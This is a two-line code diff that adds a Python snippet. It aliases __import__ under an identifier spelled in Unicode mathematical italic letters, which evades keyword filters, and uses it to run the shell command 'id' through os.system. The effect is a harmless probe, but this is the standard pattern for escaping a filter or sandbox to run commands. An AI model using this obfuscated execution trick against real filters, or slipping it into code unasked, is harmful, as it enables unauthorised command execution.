@@ -1,0 +1,2 @@
+𝘪𝘮𝘱 = __import__
+𝘪𝘮𝘱('os').system('id')
